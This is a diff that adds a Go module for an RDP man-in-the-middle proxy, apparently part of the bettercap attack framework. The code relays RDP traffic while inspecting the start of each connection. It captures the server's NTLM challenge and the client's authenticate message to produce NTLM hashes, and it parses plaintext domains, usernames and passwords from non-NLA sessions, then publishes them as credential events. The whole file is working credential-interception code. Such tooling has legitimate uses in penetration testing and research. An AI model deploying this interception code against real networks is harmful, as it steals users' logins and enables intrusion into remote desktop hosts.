@@ -0,0 +1,233 @@
+package rdp_proxy
+
+import (
+	"encoding/binary"
+	"io"
+	"net"
+	"sync"
+
+	"github.com/bettercap/bettercap/packets"
+	"github.com/bettercap/bettercap/session"
+)
+
+const (
+	// stop inspecting after this many PDUs or buffered bytes, the interesting
+	// bits are all at the beginning of the connection
+	maxInspectedPDUs  = 64
+	maxInspectedBytes = 128 * 1024
+)
+
+// RDPSessionEvent is the data of the rdp.proxy.session event.
+type RDPSessionEvent struct {
+	Client     string `json:"client"`
+	Server     string `json:"server"`
+	Cookie     string `json:"cookie"`
+	Requested  string `json:"requested"`
+	Selected   string `json:"selected"`
+	Downgraded bool   `json:"downgraded"`
+}
+
+// RDPCredentialsEvent is the data of the rdp.proxy.credentials event.
+type RDPCredentialsEvent struct {
+	Client   string `json:"client"`
+	Server   string `json:"server"`
+	Domain   string `json:"domain"`
+	Username string `json:"username"`
+	Password string `json:"password"`
+}
+
+// RDPHashEvent is the data of the rdp.proxy.ntlm event.
+type RDPHashEvent struct {
+	Client      string `json:"client"`
+	Server      string `json:"server"`
+	Domain      string `json:"domain"`
+	Username    string `json:"username"`
+	Workstation string `json:"workstation"`
+	Version     string `json:"version"`
+	Hash        string `json:"hash"`
+}
+
+type rdpSession struct {
+	sync.Mutex
+	mod       *RDPProxy
+	client    string
+	server    string
+	challenge []byte
+}
+
+// inspector reassembles the PDUs of one direction of the connection.
+type inspector struct {
+	pending []byte
+	pdus    int
+	done    bool
+	// returns true when there's nothing left to look for
+	onTSRequest func(pdu []byte) bool
+	onTPKT      func(pdu []byte) bool
+}
+
+func (i *inspector) feed(data []byte) {
+	if i.done {
+		return
+	}
+
+	i.pending = append(i.pending, data...)
+	for !i.done && len(i.pending) > 0 {
+		size := 0
+		if i.pending[0] == 0x30 {
+			// DER encoded CredSSP TSRequest
+			if len(i.pending) < 2 {
+				return
+			} else if l := i.pending[1]; l < 0x80 {
+				size = 2 + int(l)
+			} else if n := int(l & 0x7f); n < 1 || n > 3 {
+				i.done = true
+				return
+			} else if len(i.pending) < 2+n {
+				return
+			} else {
+				for _, b := range i.pending[2 : 2+n] {
+					size = size<<8 | int(b)
+				}
+				size += 2 + n
+			}
+		} else if i.pending[0] == 0x03 {
+			if len(i.pending) < 4 {
+				return
+			}
+			size = int(binary.BigEndian.Uint16(i.pending[2:]))
+		} else {
+			// fast-path traffic, we're past the connection sequence
+			i.done = true
+			return
+		}
+
+		if len(i.pending) < size {
+			if len(i.pending) > maxInspectedBytes {
+				i.done = true
+			}
+			return
+		}
+
+		pdu := i.pending[:size]
+		if pdu[0] == 0x30 && i.onTSRequest != nil {
+			i.done = i.onTSRequest(pdu)
+		} else if pdu[0] == 0x03 && i.onTPKT != nil {
+			i.done = i.onTPKT(pdu)
+		}
+
+		i.pending = i.pending[size:]
+		if i.pdus++; i.pdus >= maxInspectedPDUs {
+			i.done = true
+		}
+	}
+}
+
+func (s *rdpSession) onServerTSRequest(pdu []byte) bool {
+	if msg := packets.FindNTLM(pdu, packets.NTLMChallenge); msg != nil {
+		s.Lock()
+		s.challenge = append([]byte{}, packets.NTLMServerChallenge(msg)...)
+		s.Unlock()
+		return true
+	}
+	return false
+}
+
+func (s *rdpSession) onClientTSRequest(pdu []byte) bool {
+	msg := packets.FindNTLM(pdu, packets.NTLMAuthenticate)
+	if msg == nil {
+		return false
+	}
+
+	s.Lock()
+	challenge := s.challenge
+	s.Unlock()
+
+	if err, h := packets.ParseNTLMAuthenticate(msg, challenge); err != nil {
+		s.mod.Warning("could not parse NTLM authentication of %s: %s", s.client, err)
+	} else {
+		s.mod.Session.Events.Add("rdp.proxy.ntlm", RDPHashEvent{
+			Client:      s.client,
+			Server:      s.server,
+			Domain:      h.Domain,
+			Username:    h.Username,
+			Workstation: h.Workstation,
+			Version:     h.Version,
+			Hash:        h.Hash,
+		})
+	}
+
+	// credentials are encrypted with our TLS public key and the server will refuse them
+	s.mod.Info("NLA session of %s can't be relayed to %s, the connection will fail", s.client, s.server)
+	return true
+}
+
+func (s *rdpSession) onClientTPKT(pdu []byte) bool {
+	info := parseClientInfo(pdu)
+	if info == nil {
+		return false
+	}
+
+	s.mod.Session.Events.Add("rdp.proxy.credentials", RDPCredentialsEvent{
+		Client:   s.client,
+		Server:   s.server,
+		Domain:   info.Domain,
+		Username: info.Username,
+		Password: info.Password,
+	})
+	s.mod.Session.Bus.Publish(session.TopicCredential, "rdp.proxy", session.Credential{
+		Protocol: "rdp",
+		Client:   s.client,
+		Server:   s.server,
+		Domain:   info.Domain,
+		Username: info.Username,
+		Password: info.Password,
+	})
+	return true
+}
+
+func (s *rdpSession) pipe(src, dst net.Conn, inspect *inspector, wg *sync.WaitGroup) {
+	defer wg.Done()
+	defer dst.Close()
+
+	buff := make([]byte, 0xffff)
+	for {
+		n, err := src.Read(buff)
+		if err != nil {
+			if err != io.EOF {
+				s.mod.Debug("%s: %s", s.client, err)
+			}
+			return
+		}
+
+		if inspect != nil {
+			inspect.feed(buff[:n])
+		}
+
+		if _, err = dst.Write(buff[:n]); err != nil {
+			s.mod.Debug("%s: %s", s.client, err)
+			return
+		}
+	}
+}
+
+// relay forwards the traffic in both directions while inspecting the beginning of
+// the connection for credentials.
+func (s *rdpSession) relay(client, server net.Conn, selected uint32) {
+	fromClient := &inspector{}
+	fromServer := &inspector{}
+	if selected&(protocolHybrid|protocolHybridEx) != 0 {
+		fromClient.onTSRequest = s.onClientTSRequest
+		fromServer.onTSRequest = s.onServerTSRequest
+	} else {
+		fromClient.onTPKT = s.onClientTPKT
+		fromServer.done = true
+	}
+
+	wg := sync.WaitGroup{}
+	wg.Add(2)
+
+	go s.pipe(client, server, fromClient, &wg)
+	go s.pipe(server, client, fromServer, &wg)
+
+	wg.Wait()
+}